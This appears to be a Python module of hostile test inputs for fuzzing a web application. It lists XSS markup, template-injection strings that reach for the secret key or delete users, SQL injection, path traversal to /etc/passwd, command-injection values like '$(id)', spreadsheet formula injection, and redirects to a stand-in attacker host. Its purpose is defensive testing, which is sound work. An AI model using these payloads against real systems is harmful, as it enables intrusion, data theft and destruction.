"""What hostile requests are made of. `canary` in a text is what must never be a script of a page."""

from __future__ import annotations

MARKUP = (
    "<script>canary()</script>", "\"><script>canary()</script>", "'><img src=x onerror=canary()>",
    "<img src=x onerror=canary()>", "<svg/onload=canary()>", "</textarea><script>canary()</script>",
    "</title><script>canary()</script>", "\" onmouseover=\"canary()", "' onfocus='canary()' autofocus='",
    "` onclick=`canary()", "javascript:canary()", "JaVaScRiPt:canary()", "java\tscript:canary()",
    "data:text/html,<script>canary()</script>", "<iframe srcdoc='<script>canary()</script>'>",
    "<a href=javascript:canary()>x</a>", "<style>@import'//evil.example/canary'</style>", "<!--<script>canary()",
    "]]><script>canary()</script>", "<form action=//evil.example/canary><input name=q>",
    "<meta http-equiv=refresh content='0;url=//evil.example/canary'>", "<base href=//evil.example/canary/>",
    "&lt;script&gt;canary()&lt;/script&gt;", "<b hx-get=//evil.example/canary>x</b>",
    "\u02ba\uff1cscript\uff1ecanary()",
)  # fmt: skip
ANYWHERE = "\"'></title></textarea><script>canary()</script>"  # a script wherever it is not escaped
TEMPLATES = (
    '{{"canary"|add:"eval"}}', "{% load i18n %}{{'canary'|add:'eval'}}", "${'canary'+'eval'}", "#{'canary'+'eval'}",
    "{{settings.SECRET_KEY}}", "{% debug %}", "{{request.user.delete}}", "{%", "{{", "%(name)s", "%s%s%n",
    "{0.__class__}",
)  # fmt: skip
ODD = (
    "", " ", "\t", "\n", "\r\n", "\x00", "a\x00b", "\x07", "\x1b[31m", "\u202egpj.elif", "\u200b", "\ufeff", "\u2028",
    "\ud800".encode("utf-16", "surrogatepass").decode("utf-16", "replace"), "e\u0301", "\U0001f525", "\uffff", "İ", "ß",
    "\u0130\u0307", "Ω≈ç√", "田中", "مرحبا", "'", '"', "`", "\\", "\\x00", "' OR '1'='1",
    "'; DROP TABLE accounts_user;--",
    "1 UNION SELECT NULL--", "../../../etc/passwd", "%2e%2e%2f", "%00", "%", "%zz", "%u0041", "..;/", "|id", "$(id)",
    "=cmd|'/c calc'!A1", "@SUM(1)", "null", "None", "true", "[]", "{}", "[object Object]", "undefined", "on",
)  # fmt: skip
NUMBERS = (
    "0", "-1", "1", "2", "00", "1.5", "1e3", "1e99", "NaN", "Infinity", "-0", "0x10", "1_000", "٣", "２", "²",
    "2147483647", "2147483648", "9223372036854775807", "9223372036854775808", "9" * 40, "9" * 4301, "1Gi", "1e-9",
    "0001-01-01", "9999-12-31", "9999-12-30", "2026-02-30", "10000-01-01", "24:00", "2026-11-28T00:00:00Z",
)  # fmt: skip
LONG = (
    "x" * 201,
    "x" * 2001,
    "x" * 4001,
    "x" * 50_001,
    "é" * 5000,
    "a\n" * 3000,
    "<" * 5000,
    "\u0301" * 5000,
)
WORDS = (
    "admin", "user", "guest", "viewer", "editor", "operator", "listed", "members", "pending", "approved", "nautilus",
    "cilogon", "dark", "1", "20", "river-watch", "kube-system", "We work on the same fires, and Paula knows me.",
    "https://example.org/x", "//evil.example", "/profile/", "seen", "new", "name", "dormant", "suspended",
)  # fmt: skip
TEXTS = MARKUP + MARKUP + TEMPLATES + ODD + NUMBERS + LONG + WORDS
TYPES = (
    "application/json", "text/plain", "text/html", "application/xml", "multipart/form-data",
    "multipart/form-data; boundary=", "multipart/form-data; boundary=\"", "multipart/form-data; boundary=" + "x" * 300,
    "multipart/form-data; boundary=a\u00e9", "multipart/mixed; boundary=a",
    "application/x-www-form-urlencoded; charset=utf-7", "application/x-www-form-urlencoded; charset=nonsense",
    "application/x-www-form-urlencoded;charset=utf-16",
    "", ";", "a" * 5000,
)  # fmt: skip
PARAMETERS = (
    "q", "page", "sort", "after", "before", "state", "level", "institution", "software", "field", "next", "profile",
    "login", "seen", "code", "iss", "error", "error_description", "process", "nonsense", "\x00", "q[]", "id", "_method",
)  # fmt: skip
COOKIES = (
    "x" * 32, "\x00", "a" * 5000, "../../x", '"', "';--", "é", "0", "sessionid", "=", "%00",
    "<script>canary()</script>",
)  # fmt: skip
HEADERS = (
    "hx-request", "hx-target", "hx-current-url", "hx-trigger", "accept", "accept-language", "referer", "user-agent",
    "origin", "x-forwarded-for", "x-forwarded-proto", "x-forwarded-host", "range", "if-modified-since", "if-none-match",
    "x-http-method-override", "x-requested-with", "authorization", "remote-user", "accept-encoding", "x-csrftoken",
)  # fmt: skip
